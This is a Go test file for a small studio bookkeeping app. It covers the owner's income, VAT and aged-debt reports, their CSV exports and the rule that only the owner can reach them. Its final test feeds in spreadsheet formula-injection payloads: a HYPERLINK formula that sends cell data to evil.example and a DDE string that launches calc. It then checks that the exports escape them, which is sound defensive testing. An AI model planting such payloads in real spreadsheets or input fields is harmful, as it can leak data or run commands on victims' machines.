package handlers_test

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"anteroom/store"
	"anteroom/store/money"
	"anteroom/store/storetest"
)

// spreadsheet reads what a link of a page hands over as CSV: its rows by the
// names of their columns.
func (p *Page) spreadsheet(link string) (rows []map[string]string) {
	p.t.Helper()
	file := p.Follow(link).Is(http.StatusOK)
	if kind := file.Header.Get("Content-Type"); !strings.HasPrefix(kind, "text/csv; charset=utf-8") || !strings.HasPrefix(file.Header.Get("Content-Disposition"), "attachment") {
		p.t.Fatalf("a spreadsheet came as %s, %s", kind, file.Header.Get("Content-Disposition"))
	}
	text, marked := strings.CutPrefix(file.Body, "\uFEFF")
	if !marked {
		p.t.Error("the file has no byte order mark")
	}
	records, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		p.t.Fatal(err)
	}
	for _, record := range records[1:] {
		row := map[string]string{}
		for i, name := range records[0] {
			row[name] = record[i]
		}
		rows = append(rows, row)
	}
	return rows
}

// sumOf adds a column up; each of its cells has to be a plain number.
func sumOf(t *testing.T, rows []map[string]string, column string) (sum float64) {
	t.Helper()
	for _, row := range rows {
		n, err := strconv.ParseFloat(row[column], 64)
		if err != nil {
			t.Fatalf("%s: %v", column, err)
		}
		sum += n
	}
	return sum
}

// twoRates is an invoice of 1850 at 20 % and 400 at 5 %: 2640.00.
func twoRates(c *store.Content) {
	reduced := storetest.Line("l9", "Insulation", 400)
	reduced.Tax.Rate = 5_000
	c.Sections[0].Lines = append(c.Sections[0].Lines, reduced)
}

// hand records a payment by hand.
func hand(t *testing.T, j *storetest.Job, invoice, amount int64, on store.Date) store.Payment {
	t.Helper()
	if err := j.RecordPayment(t.Context(), j.Owner, invoice, store.HandPayment{Method: "bank", Amount: amount, PaidOn: on, Note: "=1+1",
		Attempt: fmt.Sprintf("attempt-%d-%d-%s", invoice, amount, on)}); err != nil {
		t.Fatal(err)
	}
	i, err := j.Invoice(t.Context(), invoice)
	if err != nil {
		t.Fatal(err)
	}
	return i.Payments[0]
}

func giveBack(t *testing.T, j *storetest.Job, pay store.Payment, amount int64) {
	t.Helper()
	if err := j.RecordRefund(t.Context(), j.Owner, pay.ID, store.HandRefund{RefundedOn: j.Today(),
		RefundWish: store.RefundWish{Amount: amount, Reason: "@SUM(A1)", Attempt: fmt.Sprintf("attempt-back-%d-%d", pay.ID, amount)}}); err != nil {
		t.Fatal(err)
	}
}

func TestTheOwnerReadsWhatCameIn(t *testing.T) {
	house := newHouse(t)
	job := house.Job(t)
	owner := house.Owner(t)
	owner.Open("/studio").Follow("Reports").IsAt("/studio/reports/income").Shows("2026", "Nothing came in")

	i := job.Invoiced(t)
	hand(t, job, i.ID, 66600, "2026-10-31")
	pay := hand(t, job, i.ID, 100000, "2026-11-20")
	giveBack(t, job, pay, 5050)
	page := owner.Open("/studio/reports").IsAt("/studio/reports/income")
	page.Shows("Income £1,615.50", "Received £1,666.00 2 payments", "Refunded £50.50 1 refund", "October 2026 1 £666.00 £0.00 £666.00",
		"November 2026 1 £1,000.00 £50.50 £949.50", "Money received less refunds, GBP")
	rows := page.spreadsheet("Download CSV")
	if len(rows) != 3 || sumOf(t, rows, "Amount") != 1615.5 || rows[0]["Date"] != "2026-10-31" || rows[0]["Paid with"] != "Bank transfer" ||
		rows[2]["Kind"] != "Refund" || rows[2]["Amount"] != "-50.50" || rows[0]["Note"] != "'=1+1" || rows[2]["Note"] != "'@SUM(A1)" {
		t.Errorf("the spreadsheet holds %v", rows)
	}
	month := page.Follow("October 2026").Shows("October 2026", "Income £666.00", "31 October 2026 1 £666.00").Hides("£949.50")
	month.Follow("The period after").Shows("November 2026", "£949.50", "23 November 2026", "−£50.50")
	month.Follow("The period before").Shows("September 2026", "Nothing came in")
	month.Follow("Quarter").Shows("October to December 2026", "£1,615.50").Follow("Year").Shows("£1,615.50").Follow("All time").Shows("31 October 2026", "£1,615.50")

	days := page.Submit("Show", "from", "2026-10-31", "to", "2026-11-19").Shows("31 October 2026 to 19 November 2026", "Income £666.00")
	if rows := days.spreadsheet("Download CSV"); len(rows) != 1 {
		t.Errorf("the spreadsheet of other dates holds %v", rows)
	}
	for _, wrong := range [][3]string{{"2026-11-01", "2026-10-01", "This day is before the first one."}, {"2026-11-01", "", "Please choose the last day."},
		{"soon", "2026-11-01", ""}} {
		again := page.Submit("Show", "from", wrong[0], "to", wrong[1]).Is(http.StatusOK).Shows("£1,615.50")
		if got := again.Error("to"); got != wrong[2] || wrong[2] == "" && again.Error("from") != "Please choose the first day." {
			t.Errorf("%v: from %q, to %q", wrong, again.Error("from"), got)
		}
	}
	for _, odd := range []string{"period=2026-13", "period=9999", "period=x", "period=2026-02-30_2026-03-01"} {
		owner.Open("/studio/reports/income?"+odd).Is(http.StatusOK).Shows("2026", "£1,615.50")
	}
}

func TestTheOwnerAccountsForTax(t *testing.T) {
	house := newHouse(t)
	job := house.Job(t)
	i := job.Invoiced(t, twoRates)
	pay := hand(t, job, i.ID, 132000, "2026-11-23") // half of it
	if _, err := job.CreditInvoice(t.Context(), job.Owner, i.ID, store.Crediting{Amount: 26400, Reason: "A tenth less"}); err != nil {
		t.Fatal(err)
	}
	owner := house.Owner(t)
	page := owner.Open("/studio/reports/income").Follow("Tax").IsAt("/studio/reports/tax")
	page.Shows("October to December 2026", "VAT £351.00", "Net £2,025.00", "Gross £2,376.00", "20% £1,665.00 £1,998.00 £333.00", "5% £360.00 £378.00 £18.00")
	rows := page.spreadsheet("Download CSV")
	if len(rows) != 4 || sumOf(t, rows, "Tax") != 351 || sumOf(t, rows, "Net") != 2025 || rows[0]["Number"] != "INV-0001" || rows[0]["Code"] != "S" ||
		rows[0]["Rate"] != "20" || rows[2]["Kind"] != "Credit note" || rows[2]["Invoice"] != "INV-0001" || rows[2]["Tax"] != "-37.00" {
		t.Errorf("the spreadsheet holds %v", rows)
	}
	paid := page.Follow("When paid").Shows("VAT £195.00", "Net £1,125.00", "Gross £1,320.00", "20% £925.00 £1,110.00 £185.00", "5% £200.00 £210.00 £10.00")
	giveBack(t, job, pay, 1)
	paid = owner.Open(paid.Path).Shows("Gross £1,319.99")
	rows = paid.spreadsheet("Download CSV")
	if got := money.Plain(int64(sumOf(t, rows, "Gross")*100+.5), "GBP"); got != "1319.99" || rows[0]["Number"] != "R-0001" || rows[0]["Client"] != "Raman" {
		t.Errorf("the spreadsheet adds up to %s: %v", got, rows)
	}
	// The way of counting stays when the period changes, and the other way round.
	year := paid.Follow("Year").Shows("2026", "Gross £1,319.99", "November 2026").Follow("When invoiced").Shows("2026", "Gross £2,376.00")
	year.Submit("Show", "from", "2026-01-01", "to", "2026-11-22").Shows("Nothing to account for", "No invoice")
	paid.Submit("Show", "from", "2026-01-01", "to", "2026-11-22").Shows("Nothing to account for", "No payment")
}

func TestTheOwnerSeesWhoIsLate(t *testing.T) {
	house := newHouse(t)
	job := house.Job(t)
	owner := house.Owner(t)
	owner.Open("/studio/reports/debts").Shows("Nobody owes you anything")
	first, second := job.Invoiced(t), job.Invoiced(t, twoRates)
	other := storetest.JobAt(t, house.Store, house.Clock, job.Owner, "Okafor & Daughters", "ada@okafor.example", "ben@okafor.example")
	alone := other.Invoiced(t)
	hand(t, other, alone.ID, 66600, "2026-11-23")
	house.Clock.Add(50 * 24 * time.Hour) // 12 January: the deposits are 50 days late, the balances 36
	owner = house.Owner(t)
	page := owner.Open("/studio/reports/income").Follow("Aged debts").IsAt("/studio/reports/debts")
	page.Shows("Today, 12 January 2027", "Owed £6,414.00 by 2 clients", "Late £6,414.00", "Raman £4,860.00 £4,860.00",
		first.Number+" Window seat, due since 23 Nov 2026", second.Number, "Okafor & Daughters "+alone.Number, "£1,554.00")
	rows := page.spreadsheet("Download CSV")
	if len(rows) != 3 || sumOf(t, rows, "Total") != 6414 || sumOf(t, rows, "31–60 days") != 6414 || rows[0]["Days late"] != "50" || rows[2]["Due"] != "2026-12-07" {
		t.Errorf("the spreadsheet holds %v", rows)
	}
	page.Follow(first.Number).IsAt(fmt.Sprintf("/studio/invoices/%d", first.ID))
	page.Follow("Okafor & Daughters").IsAt(fmt.Sprintf("/studio/clients/%d", other.Client.ID))
	page.Follow("End of last month").Shows("At the end of 31 December 2026", "Owed £6,414.00")
	page.Submit("Show", "on", "2026-11-24").Shows("At the end of 24 November 2026", "Late £1,458.00", "Not yet due £4,956.00")
	page.Submit("Show", "on", "2026-11-22").Shows("Nobody owed you anything")
	for day, says := range map[string]string{"2027-01-13": "This day is still to come.", "": "", "soon": "Please choose a day."} {
		again := page.Submit("Show", "on", day).Is(http.StatusOK).Shows("Today, 12 January 2027")
		if again.Error("on") != says {
			t.Errorf("%q: %q", day, again.Error("on"))
		}
	}
}

// Twenty-five clients stand on a page; sums are of all of them.
func TestManyDebtorsStandOnPages(t *testing.T) {
	house := newHouse(t)
	job := house.Job(t)
	job.Invoiced(t)
	for n := range 30 {
		storetest.Exec(t, house.Store, `INSERT INTO client (id, name, created_at, updated_at) VALUES (?1, 'Client ' || ?1, 0, 0);
			INSERT INTO project (id, number, client_id, name, created_at, updated_at) VALUES (?1, ?1, ?1, 'Job', 0, 0);
			INSERT INTO invoice (id, project_id, number, state, title, currency, total, content, content_hash, issued_on, issued_at, created_at, updated_at)
				VALUES (?1, ?1, 'X-' || ?1, 'issued', 'Work', 'GBP', 100, '{}', 'x', '2026-11-01', 0, 0, 0);
			INSERT INTO instalment (invoice_id, position, label, amount, due_on) VALUES (?1, 1, 'All', 100, '2026-11-20')`, 100+n)
	}
	page := house.Owner(t).Open("/studio/reports/debts").Shows("by 31 clients", "Raman", "1 to 25 of 31", "£2,250.00").Hides("Client 129")
	page.Follow("2").Shows("26 to 31 of 31", "Client 129").Hides("Raman")
}

// A member of the studio has no money reports: there is no link, and nothing
// behind it. That every route says so is walked elsewhere.
func TestMembersHaveNoReports(t *testing.T) {
	street := storetest.NewStreet(t)
	house := openHouse(t, street.Store, street.Clock)
	sam := house.Visitor(t)
	home := sam.Open("/studio/sign-in").Submit("Sign in", "email", street.Member.Email, "password", storetest.Password).IsAt("/studio")
	if home.HasLink("Reports") || !house.Owner(t).Open("/studio").HasLink("Reports") {
		t.Error("the link to the reports is not the owner's alone")
	}
	for _, path := range []string{"", "/income", "/income/csv", "/tax", "/tax/csv", "/debts", "/debts/csv"} {
		sam.Open("/studio/reports" + path).Is(http.StatusNotFound)
	}
}

// Whatever people call themselves, no cell of a spreadsheet begins a formula.
func TestHostileNamesRunInNoSpreadsheet(t *testing.T) {
	house := newHouse(t)
	job := storetest.JobAt(t, house.Store, house.Clock, house.Job(t).Owner, `=HYPERLINK("https://evil.example/?"&A1;"Refund")`, "eve@example.com", "mal@example.com")
	i := job.Invoiced(t, func(c *store.Content) { c.Title = "+cmd|' /C calc'!A0" })
	hand(t, job, i.ID, 66600, "2026-11-23")
	owner := house.Owner(t)
	for _, path := range []string{"/studio/reports/income", "/studio/reports/tax", "/studio/reports/tax?basis=cash", "/studio/reports/debts"} {
		rows := owner.Open(path).spreadsheet("Download CSV")
		if len(rows) == 0 {
			t.Errorf("%s: nothing to read", path)
		}
		for _, row := range rows {
			for name, cell := range row {
				_, number := strconv.ParseFloat(cell, 64)
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") && number != nil {
					t.Errorf("%s: %s is %q", path, name, cell)
				}
			}
		}
	}
}
